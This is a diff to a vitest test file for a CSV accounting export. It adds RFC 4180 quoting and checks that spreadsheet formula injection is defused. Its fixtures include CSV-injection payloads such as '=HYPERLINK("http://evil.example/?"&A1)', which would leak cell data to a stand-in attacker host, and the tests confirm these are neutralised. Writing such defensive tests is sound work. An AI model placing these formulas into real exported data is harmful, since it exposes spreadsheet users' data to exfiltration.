@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { EXPORT_BATCH } from '../src/modules/orders/export.service';
 import { patchClient, STEP1 } from './support/buyer';
@@ -14,7 +15,7 @@ import {
 } from './support/test-app';
 
 const HEADER =
-  'номер;external_id;дата;статус;сумма;возвращено;организация;ИНН;банк;выплачено;номер платёжного поручения';
+  '"номер";"external_id";"дата";"статус";"сумма";"возвращено";"организация";"ИНН";"банк";"выплачено";"номер платёжного поручения"';
 
 describe.each(DB_KINDS)('accounting export (CSV) on %s', (kind) => {
   let t: TestApp;
@@ -62,20 +63,56 @@ describe.each(DB_KINDS)('accounting export (CSV) on %s', (kind) => {
     expect(rows[0]).toBe(HEADER);
     expect(rows).toHaveLength(4);
     // Newest first: the cancelled order, then the two of the first minute.
-    expect(rows[1]).toBe(`${cancelled.order_number};;10.03.2026 12:31;Заказ отменён;12345,67;0,00;;;;;`);
+    expect(rows[1]).toBe(`${cancelled.order_number};;"10.03.2026 12:31";"Заказ отменён";12345,67;0,00;;;;;`);
     expect(rows).toContain(
-      `${plain.order_number};ERP-77;10.03.2026 12:30;Ожидаем данные клиента;1050,60;0,00;;;;;`,
+      `${plain.order_number};"ERP-77";"10.03.2026 12:30";"Ожидаем данные клиента";1050,60;0,00;;;;;`,
     );
-    // A buyer's text that could start a formula is defused and quoted (it holds `;` and quotes).
+    // A buyer's text that could start a formula is defused and quoted (its quotes doubled).
     expect(rows).toContain(
-      `${withBuyer.order_number};;10.03.2026 12:30;Ожидаем данные клиента;1050,60;0,00;"'=HYPERLINK(""http://evil""); ООО «Ромашка»";7707083893;;;`,
+      `${withBuyer.order_number};;"10.03.2026 12:30";"Ожидаем данные клиента";1050,60;0,00;"'=HYPERLINK(""http://evil""); ООО «Ромашка»";"7707083893";;;`,
     );
 
     const filtered = rowsOf((await exportCsv('?status=cancelled')).body);
     expect(filtered).toEqual([HEADER, rows[1]]);
     const byExternal = rowsOf((await exportCsv('?external_id=ERP-77')).body);
     expect(byExternal).toHaveLength(2);
-    expect(byExternal[1]).toContain(';ERP-77;');
+    expect(byExternal[1]).toContain(';"ERP-77";');
+  });
+
+  it('quotes every text cell (RFC 4180) and defuses a formula behind a comma for readers that split on `,`', async () => {
+    const order = await createOrder(t, { products: sampleProducts, external_id: 'ERP "7", склад' });
+    const name = 'ООО Ромашка,=HYPERLINK("http://evil.example/?"&A1)';
+    const saved = await patchClient(t, order.id, { ...STEP1, organization_name: name });
+    expect(saved.statusCode, saved.body).toBe(200);
+    const res = await exportCsv(`?order_id=${order.order_number}`);
+    const body = res.body.replace(/^\uFEFF/, '');
+
+    // The file as it is meant to be read (`;`), by a strict RFC 4180 parser: every cell intact, the
+    // formula behind the comma carries the apostrophe that makes a spreadsheet show it as text.
+    const rows: string[][] = parse(body, { delimiter: ';', record_delimiter: '\r\n' });
+    expect(rows).toHaveLength(2);
+    const row = rows[1] ?? [];
+    expect(row[0]).toBe(String(order.order_number));
+    expect(row[1]).toBe('ERP "7", склад');
+    expect(row[2]).toMatch(/^\d\d\.\d\d\.\d{4} \d\d:\d\d$/);
+    expect(row[3]).toBe('Ожидаем данные клиента');
+    expect(row.slice(4, 6)).toEqual(['1050,60', '0,00']);
+    expect(row[6]).toBe('ООО Ромашка,\'=HYPERLINK("http://evil.example/?"&A1)');
+    expect(row[7]).toBe('7707083893');
+    // Every text cell is written quoted; numbers and amounts are not, and empty cells stay empty.
+    const line = body.split('\r\n')[1] ?? '';
+    expect(line).toBe(
+      `${order.order_number};"ERP ""7"", склад";"${row[2]}";"Ожидаем данные клиента";1050,60;0,00;` +
+        '"ООО Ромашка,\'=HYPERLINK(""http://evil.example/?""&A1)";"7707083893";;;',
+    );
+
+    // The same row read with `,` as the separator (Excel in an English locale, Python's csv): no
+    // cell it makes starts with = + - @, so nothing becomes a formula.
+    const misread: string[][] = parse(line, { delimiter: ',', relax_quotes: true, relax_column_count: true });
+    const cells = misread.flat();
+    expect(cells.length).toBeGreaterThan(1);
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain('\'=HYPERLINK(""http://evil.example/?""&A1)";"7707083893";;;');
   });
 
   it(`walks more than one batch (${EXPORT_BATCH} rows) without losing or repeating an order`, async () => {
